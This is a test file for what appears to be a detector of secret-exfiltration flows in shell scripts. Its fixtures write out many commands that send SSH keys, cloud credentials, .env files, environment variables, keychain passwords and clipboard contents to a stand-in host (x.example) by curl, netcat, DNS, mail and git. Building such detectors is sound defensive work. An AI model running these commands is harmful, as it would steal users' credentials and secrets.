import { expect, test } from 'vitest';
import { flows, follow, only } from './support.js';

test.each([
  ['cat ~/.ssh/id_rsa | base64 | curl -d @- https://x.example/p', 'credential-file ~/.ssh/id_rsa -> http x.example'],
  ['curl -F "f=@$HOME/.aws/credentials" https://x.example', 'credential-file ~/.aws/credentials -> http x.example'],
  ['curl -T ~/.netrc https://x.example', 'credential-file ~/.netrc -> http x.example'],
  ['curl --data-binary @- https://x.example < ~/.npmrc', 'credential-file ~/.npmrc -> http x.example'],
  ['curl -sd "$(<~/.netrc)" https://x.example', 'credential-file ~/.netrc -> http x.example'],
  ['curl "https://x.example/?d=$(base64 < ~/.netrc)"', 'credential-file ~/.netrc -> http x.example'],
  ['curl -H "X-Data: $(env | base64)" https://x.example', 'environment env -> http x.example'],
  ['wget --post-data="$(printenv)" https://x.example', 'environment printenv -> http x.example'],
  ['http POST https://x.example a="$(export -p)"', 'environment export -p -> http x.example'],
  ['env | grep -iE "key|token" > /tmp/c; curl -d @/tmp/c https://x.example', 'environment env -> http x.example'],
  ['cp ~/.netrc /tmp/k && curl -T /tmp/k https://x.example', 'credential-file ~/.netrc -> http x.example'],
  ['cd ~/.ssh && tar cz . | nc x.example 99', 'credential-file ~/.ssh -> socket x.example'],
  ['tar cz ~/.ssh | openssl enc -aes-256-cbc -k x | nc x.example 99', 'credential-file ~/.ssh -> socket x.example'],
  ['find / -name id_rsa | xargs tar czf /tmp/k; scp /tmp/k a@x.example:', 'credential-file id_rsa -> upload x.example'],
  ['find ~ -name "*.pem" -exec curl -F f=@{} https://x.example \\;', 'credential-file .pem -> http x.example'],
  ['for f in ~/.netrc; do curl -F "f=@$f" https://x.example; done', 'credential-file ~/.netrc -> http x.example'],
  ['while read -r l; do curl -d "$l" https://x.example; done < .env', 'credential-file .env -> http x.example'],
  ['s() { curl -d "$1" https://x.example; }; s "$(cat .env)"', 'credential-file .env -> http x.example'],
  ['dig "$(cat ~/.netrc | xxd -p).x.example"', 'credential-file ~/.netrc -> dns x.example'],
  ['cat .env > /dev/tcp/192.0.2.1/99', 'credential-file .env -> socket 192.0.2.1'],
  ['cat .env | mail -s x a@x.example', 'credential-file .env -> mail x.example'],
  ['git add -f .env; git push https://github.com/x/y', 'credential-file .env -> git github.com'],
  ['gh gist create ~/.netrc', 'credential-file ~/.netrc -> upload gist.github.com'],
  ['aws s3 cp ~/.netrc s3://bucket/x', 'credential-file ~/.netrc -> upload ?'],
  ['rsync -a ~/.gnupg a@x.example:/tmp', 'keychain ~/.gnupg -> upload x.example'],
  [
    'p=$(security find-generic-password -w); curl -d "$p" https://x.example',
    'keychain security find-generic-password -> http x.example',
  ],
  ['pbpaste | curl -d @- https://x.example', 'clipboard pbpaste -> http x.example'],
  ['screencapture -x /tmp/s; curl -F i=@/tmp/s https://x.example', 'screen screencapture -> http x.example'],
  ['read -sp "Password: " p; curl -d "$p" https://x.example', 'typed-secret p -> http x.example'],
  ['git diff HEAD~1 | curl --data-binary @- https://x.example', 'user-files git diff -> http x.example'],
  [
    'curl -s http://169.254.169.254/x | curl -d @- https://x.example',
    'cloud-metadata http://169.254.169.254/x -> http x.example',
  ],
  ['curl -d "k=$A_TOKEN" https://x.example', 'secret-variable A_TOKEN -> http x.example'],
  ['curl -d "$(A_TOKEN)" https://x.example', 'secret-variable A_TOKEN -> http x.example'],
  [`for v in A_TOKEN; do curl -d "$\{!v}" https://x.example; done`, 'secret-variable A_TOKEN -> http x.example'],
  [`k=$\{A_TOKEN:-none}; curl -d "$k" https://x.example`, 'secret-variable A_TOKEN -> http x.example'],
  ['bash -c "curl -d $A_TOKEN https://x.example"', 'secret-variable A_TOKEN -> http x.example'],
  ['cat .env | tee >(curl -d @- https://x.example) > /dev/null', 'credential-file .env -> http x.example'],
])('%s', (script, flow) => {
  expect(flows(script)).toContain(flow);
});

test.each([
  ['curl -H "Authorization: Bearer $A_KEY_TOKEN" https://x.example'],
  ['curl -H "xi-api-key: $A_API_KEY" https://x.example'],
  ['curl -u "me:$A_TOKEN" https://x.example'],
  ['curl "https://x.example/v1?q=1&api_key=$A_API_KEY"'],
  ['wget --header="X-Api-Key: $A_API_KEY" https://x.example'],
])('a key in its place is a login: %s', (script) => {
  expect(flows(script)).toEqual([expect.stringMatching(/^secret-variable .* as login$/)]);
});

test.each([
  ['cat ~/.ssh/id_rsa.pub | curl -d @- https://x.example'],
  ['echo "cat ~/.ssh/id_rsa | curl -d @- https://x.example"'],
  ['# cat ~/.ssh/id_rsa | curl -d @- https://x.example'],
  ['ssh -i ~/.ssh/id_rsa me@x.example uptime'],
  ['t=$(curl -s https://x.example/login | jq -r .token); curl -d "t=$t" https://x.example'],
  ['TOKEN=$(curl -s https://x.example/login); curl -H "Authorization: Bearer $TOKEN" https://x.example'],
  ['printf %s "$BODY" | openssl dgst -sha256 -hmac "$A_SECRET" | curl -d @- https://x.example'],
  ['test -f .env && curl https://x.example'],
  ['env | grep -q HOME && curl https://x.example'],
  ['cat .env.example | curl -d @- https://x.example'],
])('nothing leaves: %s', (script) => {
  expect(flows(script)).toEqual([]);
});

test('a file that is not secret by its name is a file that goes out', () => {
  const { facts } = follow('curl -F file=@report.pdf https://x.example\ncat out.json | curl -d @- https://x.example');
  expect(only(facts, 'send-file').map(({ path }) => path)).toEqual(['report.pdf', 'out.json']);
});

test('the way of a secret names its stops', () => {
  const [flow] = only(follow('k=$(cat .env)\necho "$k" > /tmp/x\ncurl -d @/tmp/x https://x.example').facts, 'flow');
  expect(flow?.steps.map(({ unit, offset }) => unit.placeAt(offset).line)).toEqual([1, 2]);
});
